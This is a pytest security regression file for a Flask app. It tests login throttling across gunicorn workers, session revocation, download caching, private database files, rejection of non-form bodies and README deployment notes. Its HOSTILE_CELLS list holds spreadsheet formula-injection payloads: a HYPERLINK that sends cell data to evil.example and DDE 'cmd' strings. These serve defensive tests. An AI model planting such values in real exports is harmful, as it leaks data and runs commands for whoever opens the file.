"""What an attack from outside found (issue #16), each held here: login throttling under parallel attempts at a
real gunicorn with 2 workers (and sessions that end on every worker), spreadsheet cells that cannot run, bodies
that are not forms, no-store on every download, private files, and the README's deployment section.

The hostile-input suite (tests/test_fuzz.py) walks every route for the same classes of fault."""

import io
import os
import threading

import pytest
from openpyxl import load_workbook

from bench import loadharness
from db import db
from services import exports
from tests.access_matrix import (  # noqa: F401 (the fixtures module_site and site)
    MATRIX,
    ROLES,
    expected,
    module_site_fixture,
    routes,
    site_fixture,
)
from tests.conftest import new_database_url
from tests.factories import PASSWORD

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))

# ---------------------------------------------------------------- login throttling and sessions under gunicorn


def prepare_accounts(url, folder):
    """A migrated database with two accounts whose password is PASSWORD."""
    from app import create_app
    from models.auth import ROLE_ADMIN, ROLE_DISTRICT, User
    from services import auth, schema

    app = create_app({"DATABASE_URL": url, "SECRET_KEY": loadharness.SECRET_KEY})
    try:
        with app.app_context(), db.connection_context():
            schema.upgrade(db.obj)
            digest = auth.hash_password(PASSWORD)
            User.create(username="target", password_hash=digest, role=ROLE_ADMIN, full_name="Target")
            User.create(username="officer", password_hash=digest, role=ROLE_DISTRICT, full_name="Officer",
                        district=1)
    finally:
        if not db.is_closed():
            db.close()


def test_parallel_attempts_at_two_gunicorn_workers_never_pass_the_limit(tmp_path):
    """20 wrong passwords at once against a limit of 5, at gunicorn with 2 workers: at most 5 are checked (401),
    the others wait (429), and then even the right password waits. On the same server a session cookie copied
    before logout is refused by both workers."""
    url, drop = new_database_url(str(tmp_path), "throttle")
    server = None
    try:
        prepare_accounts(url, str(tmp_path))
        server = loadharness.Server(url, str(tmp_path))
        server.start()
        phones = [loadharness.Phone(server.port) for _ in range(20)]
        for phone in phones:
            phone.fetch_token()
        start, statuses = threading.Barrier(len(phones)), []

        def attempt(phone):
            start.wait()
            status, _body = phone.request("POST", "/login", {"username": "target", "password": "wrong-password-1",
                                                             "csrf_token": phone.token})
            statuses.append(status)

        threads = [threading.Thread(target=attempt, args=(phone,)) for phone in phones]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(60)
        assert len(statuses) == 20, statuses
        assert statuses.count(401) <= 5 and statuses.count(401) + statuses.count(429) == 20, statuses
        right = loadharness.Phone(server.port)
        right.fetch_token()
        status, _body = right.request("POST", "/login", {"username": "target", "password": PASSWORD,
                                                         "csrf_token": right.token})
        assert status == 429

        officer = loadharness.Phone(server.port)
        officer.sign_in("officer", PASSWORD)
        copied = dict(officer.cookies)
        assert officer.request("GET", "/schools")[0] == 200
        assert officer.request("POST", "/logout", {"csrf_token": officer.token})[0] == 302
        thief = loadharness.Phone(server.port)
        for _attempt in range(6):  # a new connection each: both workers answer some
            thief.cookies = dict(copied)
            assert thief.request("GET", "/schools")[0] == 302
    finally:
        if server is not None:
            server.stop()
        drop()


# ---------------------------------------------------------------- spreadsheets

HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
                 "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE_CELLS)
def test_a_formula_is_written_as_text_in_csv_and_xlsx(value):
    rows = [["Name", "Count", "Phone"], [value, 7, "+77011234567"], ["-5", -5, "<5"]]
    text = exports.csv_bytes(rows).decode("utf-8-sig")
    import csv

    parsed = list(csv.reader(io.StringIO(text)))
    assert parsed[1][0] == "'" + value and parsed[1][1:] == ["7", "+77011234567"]
    assert parsed[2] == ["-5", "-5", "<5"]  # plain numbers stay as they are
    sheet = load_workbook(io.BytesIO(exports.xlsx_bytes([("Sheet", rows)]))).active
    cells = [[cell for cell in row] for row in sheet.iter_rows()]
    assert cells[1][0].value == value.replace("\r", "\n") and cells[1][0].data_type == "s"  # XML keeps no CR
    assert cells[1][1].value == 7 and cells[1][1].data_type == "n" and cells[2][1].value == -5
    assert all(cell.data_type != "f" for row in cells for cell in row)


# ---------------------------------------------------------------- bodies that are not forms


@pytest.mark.parametrize("content_type, body", [
    ("application/json", b"1"), ("application/json", b"[1]"), ("application/json", b'{"username": 5}'),
    ("application/json", b"null"), ("application/json", b'"admin"'), ("text/plain", b"username=admin"),
    ("application/x-www-form-urlencoded; charset=utf-16", "username=admin".encode("utf-16")),
    ("multipart/form-data", b"--x\r\n"), ("application/xml", b"<a/>"), ("", b"username=admin")])
def test_a_body_that_is_no_form_is_a_400_with_a_message(client, world, content_type, body):
    headers = {"Content-Type": content_type} if content_type else {}
    page = client.post("/login", data=body, headers={**headers, "Accept-Language": "ru"})
    said = page.get_json()["message"] if page.is_json else page.get_data(as_text=True)
    assert page.status_code == 400 and ("принимает только формы" in said or "повреждённой" in said)
    # A JSON body is a script's: it gets JSON; anything else a page.
    assert page.mimetype == ("application/json" if content_type == "application/json" else "text/html")
    script = client.post("/login", data=body, headers={**headers, "Accept": "application/json"})
    assert script.status_code == 400 and script.get_json()["error"] == 400 and script.get_json()["message"]


def test_forms_as_browsers_send_them_still_work(client, world):
    urlencoded = client.post("/login", data={"username": "admin", "password": PASSWORD})
    assert urlencoded.status_code == 302
    client.post("/logout")
    multipart = client.post("/login", data={"username": "admin", "password": PASSWORD},
                            content_type="multipart/form-data")
    assert multipart.status_code == 302
    charset = client.post("/login", data="username=admin&password=" + PASSWORD,
                          content_type="application/x-www-form-urlencoded; charset=UTF-8")
    assert charset.status_code == 302


# ---------------------------------------------------------------- downloads never cached

# Answers that are files, with or without a Content-Disposition.
FILE_TYPES = {"application/pdf", "text/csv", exports.XLSX_TYPE, "application/octet-stream"}


def test_every_download_is_never_cached(site):
    """Every GET route of the URL map that answers a file (a Content-Disposition), as each role that may read it:
    Cache-Control: no-store, so no browser, proxy or offline cache keeps rosters, certificates, leaflets,
    tallies, records, personal data or materials."""
    site.reset()
    checked, problems = set(), []
    for key, rule in sorted(routes(site.app).items()):
        if not key.startswith("GET ") or key not in MATRIX:
            continue
        for role, answer in zip(ROLES, expected(key)["school"], strict=True):
            if answer != "200":
                continue
            url, response = site.request(role, "GET", rule)
            if "Content-Disposition" not in response.headers and response.mimetype not in FILE_TYPES:
                continue
            checked.add(key)
            if "no-store" not in response.headers.get("Cache-Control", ""):
                problems.append(f"{url} as {role}: Cache-Control {response.headers.get('Cache-Control')!r}")
    assert not problems, "\n".join(problems)
    assert {"GET /training/<event_id>/roster.<fmt>", "GET /training/certificates/<certificate_id>.pdf",
            "GET /participant/<token>/certificate.pdf", "GET /outreach/leaflets.pdf",
            "GET /tallies/<period>/tally.<fmt>", "GET /personal-data/<registration_id>/export.<fmt>",
            "GET /materials/<material_id>/versions/<number>/download"} <= checked, sorted(checked)


# ---------------------------------------------------------------- files readable by their owner only


def test_the_sqlite_database_file_is_created_private(tmp_path, monkeypatch):
    """The embedded database (and its -wal and -shm files, which SQLite makes with the same mode) is 0600."""
    from app import create_app
    from services import schema

    monkeypatch.setenv("KELISIM_INSTANCE", str(tmp_path / "instance"))
    monkeypatch.delenv("DATABASE_URL", raising=False)
    old = os.umask(0o022)
    try:
        app = create_app({"TESTING": True, "SECRET_KEY": "x", "DATABASE_URL": ""})
        with app.app_context(), db.connection_context():
            schema.upgrade(db.obj)
    finally:
        os.umask(old)
        if not db.is_closed():
            db.close()
    folder = tmp_path / "instance"
    files = [folder / name for name in os.listdir(folder) if name.startswith("kelisim.db")]
    assert folder / "kelisim.db" in files
    assert all(path.stat().st_mode & 0o777 == 0o600 for path in files), {p.name: oct(p.stat().st_mode) for p in files}


# ---------------------------------------------------------------- what a deployment must set


def test_the_readme_says_what_a_deployment_must_set():
    with open(os.path.join(ROOT, "README.md"), encoding="utf-8") as fh:
        readme = fh.read()
    section = readme.split("### Security", 1)[1].split("\n## ", 1)[0].split("\n### ", 1)[0]
    for must in ("FLASK_SECRET_KEY", "SESSION_COOKIE_SECURE", "HTTPS", "PUBLIC_BASE_URL", "0600", "flask backup",
                 "instance/"):
        assert must in section, must
    monitor = " ".join(readme.split("### Effectiveness monitoring", 1)[1].split("\n## ", 1)[0].split())
    assert "The monitor may change" in monitor and "nothing else" in monitor


def test_behind_a_proxy_the_clients_address_is_the_one_throttled(app_overrides, world, app):
    from tests.access_matrix import make_app

    proxied = make_app(app.config["DATABASE_URL"], app.instance_path, {"PROXY_COUNT": 1, "LOGIN_MAX_FAILURES": 5})
    client = proxied.test_client()

    def login(password, client_address):
        return client.post("/login", data={"username": "district", "password": password},
                           headers={"X-Forwarded-For": client_address}, environ_base={"REMOTE_ADDR": "127.0.0.1"})

    for _attempt in range(5):
        assert login("wrong-password-1", "10.0.0.1").status_code == 401
    assert login(PASSWORD, "10.0.0.1").status_code == 429
    assert login(PASSWORD, "10.0.0.2").status_code == 302  # another client behind the same proxy
